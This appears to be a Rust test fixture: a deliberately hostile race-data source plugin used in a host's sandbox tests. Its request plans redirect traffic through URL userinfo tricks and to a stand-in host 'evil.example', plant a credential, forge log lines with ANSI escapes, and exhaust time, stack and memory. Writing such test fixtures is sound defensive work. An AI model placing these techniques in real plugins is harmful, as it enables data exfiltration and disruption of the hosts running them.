//! A source plugin written to break the host, as a third-party author could. The host's
//! sandbox tests load it directly, through `racelab plugin run` and as the KRA plugin of
//! `racelab serve`.
//!
//! `schedule` is honest: a day of twelve races at `seoul` (10:30 KST, then every ten
//! minutes), read from any answer. Race `n`'s `entries` and `results` then do what row `n` says
//! (`--config mode=NAME` picks a row for any race instead, passed on to `parse` in the planned
//! request's query; `--config target=PATH` changes the path the `exfil-*` rows plan):
//!
//! | n | mode | where | what it does |
//! |---|---|---|---|
//! | 1 | `honest` | — | eight entries, eight result rows |
//! | 2 | `sleep-loop` | plan | sleeps 50 ms at a time, forever |
//! | 3 | `exfil-userinfo` | plan | path `@127.0.0.1:1/x`: the base host would become userinfo |
//! | 4 | `exfil-host` | plan | path `.evil.example/x`: a longer host name |
//! | 5 | `foreign-track` | parse | a result row at `gwangmyeong`, a KSPO track |
//! | 6 | `huge-error` | parse | a malformed-answer error of 8 MiB with line breaks and ANSI escapes |
//! | 7 | `log-forge` | parse | a log line that fakes a host line, then a short error |
//! | 8 | `stack-overflow` | parse | recurses until its stack runs out |
//! | 9 | `other-race` | parse | entries and results for race 1 |
//! | 10 | `credential` | plan | its own `serviceKey` parameter |
//! | 11 | `sleep-once` | plan | sleeps an hour, then plans like `honest` |
//! | 12 | `memory-hog` | parse | allocates until memory runs out |
//!
//! The manifest claims `gwangmyeong` too: the host must not take a KRA plugin's word for
//! serving a KSPO track.

use racelab_plugin_sdk::{
    ClockTime, ConfigKey, DatasetHint, Date, Entry, FinishStatus, HttpRequest, HttpResponse, OddsTiming, Operation,
    OperationKind, Page, PluginManifest, Race, RaceKey, Record, ResultRow, Source, SourceError, config_value,
    export_source, log,
};

/// The hostile plugin; public so that a native build (clippy, tests) sees it used.
pub struct Hostile;

/// The rows of the table above, by race number from 1.
pub const MODES: [&str; 12] = [
    "honest",
    "sleep-loop",
    "exfil-userinfo",
    "exfil-host",
    "foreign-track",
    "huge-error",
    "log-forge",
    "stack-overflow",
    "other-race",
    "credential",
    "sleep-once",
    "memory-hog",
];

/// The line `log-forge` writes: a break, then what a host line looks like.
pub const FORGED_LINE: &str =
    "parsed\n2026-12-06T01:02:03.000000Z  INFO racelab::jobs::worker: plugin kra verified; all jobs done\r\u{1b}[2K";

const DATASET: &str = "hostile";

impl Source for Hostile {
    fn manifest() -> PluginManifest {
        PluginManifest {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            tracks: vec!["seoul".into(), "gwangmyeong".into()],
            operations: vec![OperationKind::Schedule, OperationKind::Entries, OperationKind::Results],
            odds_pools: vec![],
            dividend_pools: vec![],
            odds_timing: OddsTiming::AfterRace,
            credential_param: Some("serviceKey".into()),
            config: vec![
                ConfigKey {
                    name: "mode".into(),
                    description: "misbehave this way for every race".into(),
                    default_value: None,
                },
                ConfigKey {
                    name: "target".into(),
                    description: "the path the exfil modes plan".into(),
                    default_value: None,
                },
            ],
            datasets: vec![DatasetHint { dataset: DATASET.into(), daily_quota: None, per_second: Some(50) }],
        }
    }

    fn plan(op: Operation, config: Vec<(String, String)>) -> Result<Vec<HttpRequest>, SourceError> {
        let race = match &op {
            Operation::Schedule(day) => {
                return Ok(vec![HttpRequest::get(DATASET, "/hostile/schedule").param("date", day.date.to_string())]);
            }
            Operation::Entries(race) | Operation::Results(race) => race.key.clone(),
            Operation::Odds(_) => return Err(SourceError::Unsupported("no odds".into())),
        };
        let mode = mode(&config, race.number);
        // The mode travels in the query: `parse` sees no config.
        let honest =
            HttpRequest::get(DATASET, "/hostile/race").param("race", race.number.to_string()).param("mode", mode);
        let target = |default: &str| config_value(&config, "target").unwrap_or(default).to_string();
        match mode {
            "sleep-loop" => loop {
                std::thread::sleep(std::time::Duration::from_millis(50));
            },
            "exfil-userinfo" => Ok(vec![HttpRequest::get(DATASET, &target("@127.0.0.1:1/x"))]),
            "exfil-host" => Ok(vec![HttpRequest::get(DATASET, &target(".evil.example/x"))]),
            "credential" => Ok(vec![honest.param("serviceKey", "planted-by-the-plugin")]),
            "sleep-once" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(vec![honest])
            }
            _ => Ok(vec![honest]),
        }
    }

    fn parse(op: Operation, request: HttpRequest, _response: HttpResponse) -> Result<Page, SourceError> {
        let (race, results) = match &op {
            Operation::Schedule(day) => {
                let races = (1..=MODES.len() as u8).map(|n| race_record(&day.track, day.date, n)).collect();
                return Ok(Page::new(races, vec![]));
            }
            Operation::Entries(race) => (race.key.clone(), false),
            Operation::Results(race) => (race.key.clone(), true),
            Operation::Odds(_) => return Err(SourceError::Unsupported("no odds".into())),
        };
        let records = |key: &RaceKey| if results { result_rows(key) } else { entries(key) };
        let asked = request.query_value("mode").map(|m| vec![("mode".to_string(), m.to_string())]).unwrap_or_default();
        match mode(&asked, race.number) {
            "foreign-track" => {
                let key = RaceKey { track: "gwangmyeong".into(), ..race };
                Ok(Page::new(result_rows(&key), vec![]))
            }
            "huge-error" => {
                let chunk = "the answer is wrong\n\u{1b}[31mERROR racelab: database dropped\u{1b}[0m\r";
                Err(SourceError::Malformed(chunk.repeat((8 << 20) / chunk.len())))
            }
            "log-forge" => {
                log::info(FORGED_LINE);
                Err(SourceError::Malformed("forged a log line".into()))
            }
            "stack-overflow" => Ok(Page::new(vec![race_record(&race.track, race.date, deep(0) as u8)], vec![])),
            "other-race" => Ok(Page::new(records(&RaceKey { number: 1, ..race }), vec![])),
            "memory-hog" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            _ => Ok(Page::new(records(&race), vec![])),
        }
    }
}

export_source!(Hostile);

fn mode(config: &[(String, String)], race: u8) -> &str {
    if let Some(mode) = config_value(config, "mode") {
        return MODES.iter().find(|m| **m == mode).copied().unwrap_or("honest");
    }
    MODES.get(usize::from(race).wrapping_sub(1)).copied().unwrap_or("honest")
}

/// Recursion with a frame the optimiser must keep, until the stack is gone.
fn deep(depth: u64) -> u64 {
    if depth == u64::MAX {
        return 0;
    }
    let frame = std::hint::black_box([depth; 64]);
    frame[usize::try_from(depth % 64).unwrap_or(0)] + deep(depth + 1)
}

fn race_record(track: &str, date: Date, number: u8) -> Record {
    let minutes = 10 * 60 + 30 + 10 * u16::from(number - 1);
    Record::Race(Race {
        key: RaceKey { track: track.into(), date, number },
        meeting: None,
        name: None,
        distance_m: Some(1200),
        post_time: Some(ClockTime { hour: (minutes / 60) as u8, minute: (minutes % 60) as u8 }),
        grade: None,
        field_size: Some(8),
        status: None,
    })
}

fn entries(key: &RaceKey) -> Vec<Record> {
    (1..=8)
        .map(|n| {
            Record::Entry(Entry {
                race: key.clone(),
                number: n,
                runner_id: None,
                runner_name: format!("Runner {n}"),
                jockey: None,
                jockey_id: None,
                trainer: None,
                trainer_id: None,
                weight_kg: None,
                rating: None,
                age: None,
                sex: None,
            })
        })
        .collect()
}

fn result_rows(key: &RaceKey) -> Vec<Record> {
    (1..=8)
        .map(|n| {
            Record::Result(ResultRow {
                race: key.clone(),
                number: Some(n),
                runner_id: None,
                runner_name: None,
                position: Some(n),
                status: FinishStatus::Finished,
                time_s: None,
                margin: None,
                win_odds: None,
                place_odds: None,
            })
        })
        .collect()
}
